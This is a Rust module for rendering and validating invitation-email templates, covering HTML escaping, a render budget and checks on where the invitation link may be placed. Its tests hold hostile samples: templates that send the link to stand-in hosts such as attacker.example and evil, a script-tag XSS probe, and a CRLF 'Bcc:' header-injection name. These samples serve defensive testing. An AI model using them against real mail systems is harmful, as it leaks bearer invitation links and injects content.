//! Invitation templates: subject, HTML and text in minijinja, with HTML auto-escaping of everything a
//! person's data brings. Templates are checked before anything is sent: syntax errors with line and
//! column, unknown variables, and a subject that renders to nothing or to more than one line.

mod builtin;
pub mod placement;

use std::collections::BTreeSet;

use minijinja::value::Serde;
use minijinja::{AutoEscape, Environment, UndefinedBehavior, Value};
use serde::{Deserialize, Serialize};
use time::OffsetDateTime;
use ts_rs::TS;

pub(crate) use invite_desk_core::AppError;
use invite_desk_roster::Person;

/// The three parts of an invitation, as the admin wrote them (saved with the batch).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
pub struct TemplateSet {
    pub subject: String,
    pub html: String,
    pub text: String,
}

impl TemplateSet {
    pub fn builtin() -> Self {
        TemplateSet {
            subject: builtin::SUBJECT.to_owned(),
            html: builtin::HTML.to_owned(),
            text: builtin::TEXT.to_owned(),
        }
    }

    /// The built-in reminder (a new link; the first one still works until it expires).
    pub fn builtin_reminder() -> Self {
        TemplateSet {
            subject: builtin::reminder::SUBJECT.to_owned(),
            html: builtin::reminder::HTML.to_owned(),
            text: builtin::reminder::TEXT.to_owned(),
        }
    }

    /// The built-in re-issue (the first link expired; here is a new one).
    pub fn builtin_reissue() -> Self {
        TemplateSet {
            subject: builtin::reissue::SUBJECT.to_owned(),
            html: builtin::reissue::HTML.to_owned(),
            text: builtin::reissue::TEXT.to_owned(),
        }
    }

    /// A template file: TOML with `subject`, `html` and `text`.
    pub fn from_toml(text: &str) -> Result<Self, AppError> {
        toml::from_str(text)
            .map_err(|e| AppError::invalid_input(format!("the template file is not valid: {e}")))
    }
}

/// How an expiry date is written: the same for every recipient, chosen by the admin.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, TS, Default)]
#[serde(rename_all = "snake_case")]
pub enum DateFormat {
    /// 2026-11-28 14:05 UTC
    #[default]
    Iso,
    /// 28 November 2026, 14:05 UTC
    DayMonthYear,
    /// November 28, 2026, 14:05 UTC
    MonthDayYear,
    /// 28/11/2026 14:05 UTC
    DayMonthNumeric,
    /// 11/28/2026 14:05 UTC
    MonthDayNumeric,
}

impl DateFormat {
    pub fn format(self, at: OffsetDateTime) -> String {
        let at = at.to_offset(time::UtcOffset::UTC);
        let (y, m, d, hh, mm) = (at.year(), at.month(), at.day(), at.hour(), at.minute());
        let month = format!("{m}");
        let n = u8::from(m);
        match self {
            DateFormat::Iso => format!("{y}-{n:02}-{d:02} {hh:02}:{mm:02} UTC"),
            DateFormat::DayMonthYear => format!("{d} {month} {y}, {hh:02}:{mm:02} UTC"),
            DateFormat::MonthDayYear => format!("{month} {d}, {y}, {hh:02}:{mm:02} UTC"),
            DateFormat::DayMonthNumeric => format!("{d:02}/{n:02}/{y} {hh:02}:{mm:02} UTC"),
            DateFormat::MonthDayNumeric => format!("{n:02}/{d:02}/{y} {hh:02}:{mm:02} UTC"),
        }
    }
}

/// "in 7 days", "in 1 day", "in 12 hours", "in 45 minutes".
pub fn expires_in(seconds: u64) -> String {
    let plural = |n: u64, unit: &str| format!("in {n} {unit}{}", if n == 1 { "" } else { "s" });
    match seconds {
        s if s >= 86_400 && s % 86_400 == 0 => plural(s / 86_400, "day"),
        s if s >= 2 * 86_400 => plural(s / 86_400, "day"),
        s if s >= 3_600 => plural(s / 3_600, "hour"),
        s => plural((s / 60).max(1), "minute"),
    }
}

/// What every message of a batch shares.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
pub struct MessageSettings {
    pub app_name: String,
    /// Who invites: the customer's organization or the sender's name.
    pub organization: String,
    /// Where to ask for a new invitation: an address or a URL.
    pub support_contact: String,
    pub date_format: DateFormat,
}

impl Default for MessageSettings {
    fn default() -> Self {
        MessageSettings {
            app_name: "our application".into(),
            organization: "Your administrator".into(),
            support_contact: "your administrator".into(),
            date_format: DateFormat::Iso,
        }
    }
}

/// The invitation link of one person.
#[derive(Clone)]
pub struct Link {
    /// A bearer secret; inserted exactly as issued.
    pub url: String,
    pub expires_at: OffsetDateTime,
    pub ttl_seconds: u64,
}

impl std::fmt::Debug for Link {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Link")
            .field("expires_at", &self.expires_at)
            .finish_non_exhaustive()
    }
}

/// Variables a template may use. `person.app_metadata.*` and `person.user_metadata.*` take any key.
pub const VARIABLES: &[&str] = &[
    "person",
    "person.email",
    "person.given_name",
    "person.family_name",
    "person.name",
    "person.app_metadata",
    "person.user_metadata",
    "greeting_name",
    "link",
    "expires_at",
    "expires_in",
    "app_name",
    "organization",
    "support_contact",
];

fn known(variable: &str) -> bool {
    VARIABLES.contains(&variable)
        || variable.starts_with("person.app_metadata.")
        || variable.starts_with("person.user_metadata.")
}

/// The parts, by the names errors use.
/// A rendered invitation: the subject and both parts, what a message is built from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Content {
    pub subject: String,
    pub html: String,
    pub text: String,
}

const PARTS: [&str; 3] = ["subject", "html", "text"];

/// Templates compiled and checked, ready to render for many people.
pub struct CompiledTemplates {
    env: Environment<'static>,
}

impl std::fmt::Debug for CompiledTemplates {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("CompiledTemplates")
    }
}

/// Line and column (in characters) of a byte offset. An offset inside a character (an error range
/// measured in another template's text) is taken back to that character's start, never a panic.
fn position(source: &str, offset: usize) -> (usize, usize) {
    let mut offset = offset.min(source.len());
    while !source.is_char_boundary(offset) {
        offset -= 1;
    }
    let before = &source[..offset];
    let line = before.matches('\n').count() + 1;
    let column = before.rsplit('\n').next().map_or(0, |l| l.chars().count()) + 1;
    (line, column)
}

/// The error in the words of the part where it is: an error raised while rendering `part` may sit in
/// another one it includes (`{% include "html" %}`), and its range counts in that one's text.
/// Steps one part's render may take. The built-in invitation takes a few hundred; a loop within a
/// loop over a long list takes millions, and would run on every keystroke of the preview.
pub const RENDER_FUEL: u64 = 200_000;

/// The most one part of a message may render to. A real invitation is a few kilobytes.
pub const MAX_RENDERED_BYTES: usize = 1024 * 1024;

/// Collects a render's output and refuses to grow past `MAX_RENDERED_BYTES`.
#[derive(Default)]
struct BoundedOutput {
    bytes: Vec<u8>,
    overflowed: bool,
}

impl std::io::Write for BoundedOutput {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        if self.bytes.len() + buf.len() > MAX_RENDERED_BYTES {
            self.overflowed = true;
            return Err(std::io::Error::other("the rendered message is too large"));
        }
        self.bytes.extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn template_error(
    part: &str,
    source: &str,
    error: &minijinja::Error,
    others: &Environment<'_>,
) -> AppError {
    let (part, source) = match error.name().filter(|name| *name != part) {
        Some(name) => match others.get_template(name) {
            Ok(template) => (name, template.source().to_owned()),
            Err(_) => (part, source.to_owned()),
        },
        None => (part, source.to_owned()),
    };
    let (line, column) = match error.range() {
        Some(range) => position(&source, range.start),
        None => (error.line().unwrap_or(1), 1),
    };
    let what = match error.kind() {
        minijinja::ErrorKind::OutOfFuel => format!(
            "the template does too much work (over {RENDER_FUEL} steps for one message): look for a loop inside a loop"
        ),
        _ => error
            .detail()
            .map_or_else(|| error.kind().to_string(), str::to_owned),
    };
    AppError::invalid_input(format!(
        "{part} template, line {line}, column {column}: {what}"
    ))
}

/// The sample person templates are checked with before anything is sent.
fn sample_person() -> Person {
    Person {
        line: 2,
        email: "jane.doe@example.com".into(),
        given_name: Some("Jane".into()),
        family_name: Some("Doe".into()),
        name: Some("Jane Doe".into()),
        roles: vec!["viewer".into()],
        app_metadata: serde_json::Map::new(),
        user_metadata: serde_json::Map::new(),
    }
}

impl CompiledTemplates {
    pub fn compile(set: &TemplateSet) -> Result<Self, AppError> {
        let mut env = Environment::new();
        env.set_undefined_behavior(UndefinedBehavior::Chainable);
        env.set_fuel(Some(RENDER_FUEL));
        // Text templates end with a newline like any text file; block tags on their own line leave
        // no blank line behind.
        let mut syntax = minijinja::syntax::SyntaxConfig::builder();
        syntax.keep_trailing_newline(true).trim_blocks(true);
        env.set_syntax(
            syntax
                .build()
                .map_err(|e| AppError::internal(format!("template syntax settings: {e}")))?,
        );
        env.set_auto_escape_callback(|name| {
            if name == "html" {
                AutoEscape::Html
            } else {
                AutoEscape::None
            }
        });
        for (part, source) in PARTS.into_iter().zip([&set.subject, &set.html, &set.text]) {
            check_link_uses(part, source)?;
            env.add_template_owned(part, source.clone())
                .map_err(|e| template_error(part, source, &e, &Environment::new()))?;
            let template = env
                .get_template(part)
                .map_err(|e| template_error(part, source, &e, &env))?;
            let unknown: BTreeSet<String> = template
                .undeclared_variables(true)
                .into_iter()
                .filter(|v| !known(v))
                .collect();
            if let Some(variable) = unknown.iter().next() {
                let last = variable.rsplit('.').next().unwrap_or(variable);
                let (line, column) = source
                    .find(last)
                    .map_or((1, 1), |offset| position(source, offset));
                return Err(AppError::invalid_input(format!(
                    "{part} template, line {line}, column {column}: unknown variable `{variable}`; known: {}",
                    VARIABLES.join(", ")
                )));
            }
        }
        let compiled = CompiledTemplates { env };
        let sample = Link {
            url:
                "https://tenant.example/u/reset-password?ticket=SAMPLEvCXrmOFD88EqTjKp#type=invite"
                    .into(),
            expires_at: OffsetDateTime::now_utc() + time::Duration::days(7),
            ttl_seconds: 7 * 86_400,
        };
        let subject = compiled.render_part(
            "subject",
            &sample_person(),
            &sample,
            &MessageSettings::default(),
        )?;
        let subject = subject.trim();
        if subject.is_empty() {
            return Err(AppError::invalid_input(
                "subject template: it renders to nothing",
            ));
        }
        if subject.contains(['\n', '\r']) {
            return Err(AppError::invalid_input(
                "subject template: it renders to more than one line",
            ));
        }
        let content = compiled.render(&sample_person(), &sample, &MessageSettings::default())?;
        // An invitation without its link cannot be used: both parts carry it (a mail client shows
        // one or the other).
        let secret = link_secret(&sample.url);
        for (part, body) in [("html", &content.html), ("text", &content.text)] {
            if !body.contains(&secret) {
                return Err(AppError::invalid_input(format!(
                    "{part} template: it has no {{{{ link }}}}; an invitation without its link cannot be used (both the HTML and the text part need it)"
                )));
            }
        }
        Ok(compiled)
    }

    fn context(person: &Person, link: &Link, settings: &MessageSettings, html: bool) -> Value {
        let greeting = person
            .given_name
            .clone()
            .or_else(|| person.name.clone())
            .unwrap_or_else(|| {
                person
                    .email
                    .split('@')
                    .next()
                    .unwrap_or_default()
                    .to_owned()
            });
        // In HTML the link goes out with only &, <, >, " and ' escaped, so every character of the
        // issued URL survives (minijinja's own escaping would also encode `/`).
        let link_value = if html {
            Value::from_safe_string(escape_attribute(&link.url))
        } else {
            Value::from(link.url.clone())
        };
        minijinja::context! {
            person => Value::from(Serde(person)),
            greeting_name => greeting,
            link => link_value,
            expires_at => settings.date_format.format(link.expires_at),
            expires_in => expires_in(link.ttl_seconds),
            app_name => settings.app_name.clone(),
            organization => settings.organization.clone(),
            support_contact => settings.support_contact.clone(),
        }
    }

    fn render_part(
        &self,
        part: &str,
        person: &Person,
        link: &Link,
        settings: &MessageSettings,
    ) -> Result<String, AppError> {
        let template = self
            .env
            .get_template(part)
            .map_err(|e| AppError::internal(e.to_string()))?;
        let source = template.source().to_owned();
        let mut output = BoundedOutput::default();
        let rendered = template.render_captured_to(
            Self::context(person, link, settings, part == "html"),
            &mut output,
        );
        if output.overflowed {
            return Err(AppError::invalid_input(format!(
                "{part} template: the message it makes is over {} KB; an invitation is a few",
                MAX_RENDERED_BYTES / 1024
            )));
        }
        rendered.map_err(|e| template_error(part, &source, &e, &self.env))?;
        String::from_utf8(output.bytes)
            .map_err(|e| AppError::internal(format!("{part} template rendered invalid UTF-8: {e}")))
    }

    /// One person's message. Checked on every render, for every person (a template may place the
    /// link differently for different data): the link appears only where it belongs.
    pub fn render(
        &self,
        person: &Person,
        link: &Link,
        settings: &MessageSettings,
    ) -> Result<Content, AppError> {
        let subject = self.render_part("subject", person, link, settings)?;
        let html = self.render_part("html", person, link, settings)?;
        let secret = link_secret(&link.url);
        if subject.contains(&secret) {
            return Err(AppError::invalid_input(
                "subject template: it puts the link in the subject; the link belongs in the message (a link's href, or the text)",
            ));
        }
        if let Some(place) = placement::misplaced_link(
            &html,
            &escape_attribute(&link.url),
            &escape_attribute(&secret),
        ) {
            return Err(AppError::invalid_input(format!(
                "html template: it puts the link in {}, where a mail client fetches or hides it; a link may appear only as a link's target (<a href=\"{{{{ link }}}}\">) or in the text",
                place.describe()
            )));
        }
        Ok(Content {
            // Person data may hold line breaks; a subject is one line.
            subject: subject.split_whitespace().collect::<Vec<_>>().join(" "),
            html,
            text: self.render_part("text", person, link, settings)?,
        })
    }
}

/// The link is used only as `{{ link }}`: a filter, a slice, a join or a `set` makes something from
/// it that the placement check (which looks for the link) would not recognise.
fn check_link_uses(part: &str, source: &str) -> Result<(), AppError> {
    let mut from = 0;
    while let Some(open) = source[from..].find(['{']).map(|at| from + at) {
        let kind = source[open + 1..].chars().next();
        let close = match kind {
            Some('{') => "}}",
            Some('%') => "%}",
            _ => {
                from = open + 1;
                continue;
            }
        };
        let inner_start = open + 2;
        let inner_end = source[inner_start..]
            .find(close)
            .map_or(source.len(), |at| inner_start + at);
        let inner = &source[inner_start..inner_end];
        let mentions_link = inner.match_indices("link").any(|(at, _)| {
            let before = inner[..at].chars().next_back();
            let after = inner[at + 4..].chars().next();
            let word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
            !word(before) && before != Some('.') && !word(after)
        });
        if mentions_link {
            let bare = inner.trim_matches(|c: char| c == '-' || c == '+' || c.is_whitespace());
            if kind != Some('{') || bare != "link" {
                let (line, column) = position(source, open);
                return Err(AppError::invalid_input(format!(
                    "{part} template, line {line}, column {column}: use the link only as {{{{ link }}}} (no filter, slice, join or set): anything made from the link escapes the check that keeps it where it belongs"
                )));
            }
        }
        from = inner_end;
    }
    Ok(())
}

/// The part of a link that makes it a bearer secret: its `ticket` (password-change and
/// verification tickets) or `invitation` (organization invitations) value, else the whole link.
/// Finding it finds the link and what is derived from it.
pub fn link_secret(url: &str) -> String {
    url::Url::parse(url)
        .ok()
        .and_then(|u| {
            u.query_pairs()
                .find(|(k, v)| (k == "ticket" || k == "invitation") && v.len() >= 8)
                .map(|(_, v)| v.into_owned())
        })
        .unwrap_or_else(|| url.to_owned())
}

fn escape_attribute(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn link() -> Link {
        Link {
            url: "https://acme.eu.auth0.com/u/reset-password?ticket=vCXrmOFD88EqTjKpvxBEwG7KmlQ0QFmS#type=invite&app=Portal".into(),
            expires_at: OffsetDateTime::from_unix_timestamp(1_795_000_000).unwrap(),
            ttl_seconds: 7 * 86_400,
        }
    }

    fn person(given: &str) -> Person {
        Person {
            given_name: Some(given.into()),
            ..sample_person()
        }
    }

    #[test]
    fn a_template_that_puts_the_link_where_a_client_fetches_it_is_refused() {
        for html in [
            r#"<p>Hi</p><img src="https://x.example/?l={{ link }}"><a href="{{ link }}">go</a>"#,
            r#"<a href="{{ link }}" title="{{ link }}">go</a>"#,
            r#"<!-- {{ link }} --><a href="{{ link }}">go</a>"#,
            r#"<a href="{{ link }}">go</a>{% if person.given_name == "Jane" %}<img src="//x/{{ link[8:] }}">{% endif %}"#,
            r#"<a href="https://attacker.example/?t={{ link }}">go</a>"#,
            r#"<img src="{{ 'https://evil/' ~ link|reverse }}"><a href="{{ link }}">go</a>"#,
            r#"{% set l = link %}<a href="{{ l }}">go</a>"#,
        ] {
            let set = TemplateSet {
                html: html.into(),
                ..TemplateSet::builtin()
            };
            let error = CompiledTemplates::compile(&set).unwrap_err();
            assert!(
                error.message.contains("html template: it puts the link in")
                    || error.message.contains("use the link only as {{ link }}"),
                "{html}: {}",
                error.message
            );
        }
        let subject = TemplateSet {
            subject: "Your link {{ link }}".into(),
            ..TemplateSet::builtin()
        };
        assert!(CompiledTemplates::compile(&subject).is_err());
        // Where it belongs: allowed, and checked again for each person's own data.
        let fine = TemplateSet {
            html: r#"<a href="{{ link }}">Set your password</a><p>{{ link }}</p>{% if person.given_name == "Zed" %}<img src="{{ link }}">{% endif %}"#.into(),
            ..TemplateSet::builtin()
        };
        let compiled = CompiledTemplates::compile(&fine).unwrap();
        assert!(
            compiled
                .render(&person("Ann"), &link(), &MessageSettings::default())
                .is_ok()
        );
        let error = compiled
            .render(&person("Zed"), &link(), &MessageSettings::default())
            .unwrap_err();
        assert!(error.message.contains("<img src="), "{}", error.message);
    }

    #[test]
    fn both_parts_must_carry_the_link() {
        for (html, text, part) in [
            ("<p>Hello</p>", "{{ link }}\n", "html template"),
            (r#"<a href="{{ link }}">Go</a>"#, "Hello\n", "text template"),
            // Only for some people is not enough: the sample has to get it too.
            (
                r#"{% if person.given_name == "Zed" %}<a href="{{ link }}">Go</a>{% endif %}"#,
                "{{ link }}\n",
                "html template",
            ),
        ] {
            let set = TemplateSet {
                html: html.into(),
                text: text.into(),
                ..TemplateSet::builtin()
            };
            let error = CompiledTemplates::compile(&set).unwrap_err();
            assert!(
                error.message.starts_with(part) && error.message.contains("has no {{ link }}"),
                "{html} / {text}: {}",
                error.message
            );
        }
    }

    #[test]
    fn a_template_that_works_too_hard_or_writes_too_much_is_refused() {
        let nested = TemplateSet {
            text: "{% for a in 'x' * 100000 %}{% for b in 'x' * 100000 %}x{% endfor %}{% endfor %}{{ link }}\n".into(),
            ..TemplateSet::builtin()
        };
        let error = CompiledTemplates::compile(&nested).unwrap_err();
        assert!(error.message.contains("too much work"), "{}", error.message);
        let huge = TemplateSet {
            text: "{% for a in 'x' * 50 %}{{ 'x' * 50000 }}{% endfor %}{{ link }}\n".into(),
            ..TemplateSet::builtin()
        };
        let error = CompiledTemplates::compile(&huge).unwrap_err();
        assert!(error.message.contains("over 1024 KB"), "{}", error.message);
    }

    #[test]
    fn the_builtin_invitation_follows_the_guidance() {
        let compiled = CompiledTemplates::compile(&TemplateSet::builtin()).unwrap();
        let settings = MessageSettings {
            app_name: "Portal".into(),
            organization: "Acme".into(),
            support_contact: "help@acme.example".into(),
            date_format: DateFormat::DayMonthYear,
        };
        let content = compiled
            .render(&person("Jane"), &link(), &settings)
            .unwrap();
        assert_eq!(
            content.subject,
            "Your Portal account is ready: set your password"
        );
        for part in [&content.text, &content.html] {
            assert!(
                part.contains("expires <strong>in 7 days</strong>")
                    || part.contains("expires in 7 days"),
                "{part}"
            );
            assert!(
                part.contains("help@acme.example"),
                "how to get a new invitation"
            );
            assert!(part.contains("jane.doe@example.com"));
        }
        assert!(
            content.text.contains(&link().url),
            "the text part holds the link exactly"
        );
        assert!(content.html.contains("href=\"https://acme.eu.auth0.com/u/reset-password?ticket=vCXrmOFD88EqTjKpvxBEwG7KmlQ0QFmS#type=invite&amp;app=Portal\""));
        assert!(
            content.text.contains("(18 November 2026, 11:06 UTC)"),
            "{}",
            content.text
        );
    }

    #[test]
    fn person_data_is_escaped_in_html_only() {
        let compiled = CompiledTemplates::compile(&TemplateSet::builtin()).unwrap();
        let content = compiled
            .render(
                &person("<script>alert(1)</script>"),
                &link(),
                &MessageSettings::default(),
            )
            .unwrap();
        assert!(
            content
                .html
                .contains("Hello &lt;script&gt;alert(1)&lt;&#x2f;script&gt;,"),
            "{}",
            &content.html[..2000]
        );
        assert!(!content.html.contains("<script>"));
        assert!(content.text.contains("Hello <script>alert(1)</script>,"));
    }

    #[test]
    fn syntax_errors_name_the_part_line_and_column() {
        let set = TemplateSet {
            text: "Hello\n{{ person.email }\n".into(),
            ..TemplateSet::builtin()
        };
        let err = CompiledTemplates::compile(&set).unwrap_err();
        assert!(
            err.message.starts_with("text template, line 2, column"),
            "{}",
            err.message
        );
    }

    #[test]
    fn an_error_in_an_included_part_is_placed_in_that_part_never_a_panic() {
        // The error sits in the HTML part at a byte offset that, counted in the text part, falls
        // inside an accented character: it must be reported in the HTML part's lines.
        let set = TemplateSet {
            html: "<p>Hallo {{ link }}</p>\n<p>{{ 1 // 0 }}</p>\n".into(),
            text: "Grüße, éèêë àâä öü {% include \"html\" %} {{ link }}\n".into(),
            ..TemplateSet::builtin()
        };
        let err = CompiledTemplates::compile(&set).unwrap_err();
        assert!(
            err.message.starts_with("html template, line 2"),
            "{}",
            err.message
        );
        for offset in 0..20 {
            let _ = position("Grüße, éèêë", offset);
        }
    }

    #[test]
    fn unknown_variables_are_refused_before_sending() {
        let set = TemplateSet {
            subject: "Hi {{ person.frist_name }}".into(),
            ..TemplateSet::builtin()
        };
        let err = CompiledTemplates::compile(&set).unwrap_err();
        assert!(
            err.message.contains("unknown variable `person.frist_name`"),
            "{}",
            err.message
        );
        assert!(
            err.message
                .starts_with("subject template, line 1, column 14"),
            "{}",
            err.message
        );
        let set = TemplateSet {
            html: "<p>{{ lnk }}</p>".into(),
            ..TemplateSet::builtin()
        };
        assert!(
            CompiledTemplates::compile(&set)
                .unwrap_err()
                .message
                .contains("`lnk`")
        );
        let metadata = TemplateSet {
            text: "{{ person.app_metadata.plan }} {{ link }}".into(),
            ..TemplateSet::builtin()
        };
        assert!(
            CompiledTemplates::compile(&metadata).is_ok(),
            "metadata keys are open"
        );
    }

    #[test]
    fn subjects_must_be_one_nonempty_line() {
        let empty = TemplateSet {
            subject: "{% if false %}x{% endif %}  ".into(),
            ..TemplateSet::builtin()
        };
        assert!(
            CompiledTemplates::compile(&empty)
                .unwrap_err()
                .message
                .contains("renders to nothing")
        );
        let two = TemplateSet {
            subject: "Hello\n{{ app_name }}".into(),
            ..TemplateSet::builtin()
        };
        assert!(
            CompiledTemplates::compile(&two)
                .unwrap_err()
                .message
                .contains("more than one line")
        );
        // A person's name with a line break cannot break the subject.
        let set = TemplateSet {
            subject: "Welcome {{ person.given_name }}".into(),
            ..TemplateSet::builtin()
        };
        let content = CompiledTemplates::compile(&set)
            .unwrap()
            .render(
                &person("Eve\r\nBcc: x@y"),
                &link(),
                &MessageSettings::default(),
            )
            .unwrap();
        assert_eq!(content.subject, "Welcome Eve Bcc: x@y");
    }

    #[test]
    fn date_formats_and_durations() {
        let at = OffsetDateTime::from_unix_timestamp(1_795_000_000).unwrap();
        assert_eq!(DateFormat::Iso.format(at), "2026-11-18 11:06 UTC");
        assert_eq!(
            DateFormat::MonthDayYear.format(at),
            "November 18, 2026, 11:06 UTC"
        );
        assert_eq!(
            DateFormat::DayMonthNumeric.format(at),
            "18/11/2026 11:06 UTC"
        );
        assert_eq!(
            DateFormat::MonthDayNumeric.format(at),
            "11/18/2026 11:06 UTC"
        );
        assert_eq!(expires_in(7 * 86_400), "in 7 days");
        assert_eq!(expires_in(86_400), "in 1 day");
        assert_eq!(expires_in(36 * 3600), "in 36 hours");
        assert_eq!(expires_in(45 * 60), "in 45 minutes");
        assert_eq!(expires_in(5), "in 1 minute");
    }

    #[test]
    fn template_files_are_toml() {
        let set = TemplateSet::from_toml(
            "subject = \"Hi\"\nhtml = \"<p>{{ link }}</p>\"\ntext = \"\"\"\n{{ link }}\n\"\"\"\n",
        )
        .unwrap();
        assert_eq!(set.subject, "Hi");
        let err = TemplateSet::from_toml("subject = \"Hi\"\n").unwrap_err();
        assert!(err.message.contains("missing field"), "{}", err.message);
    }
}
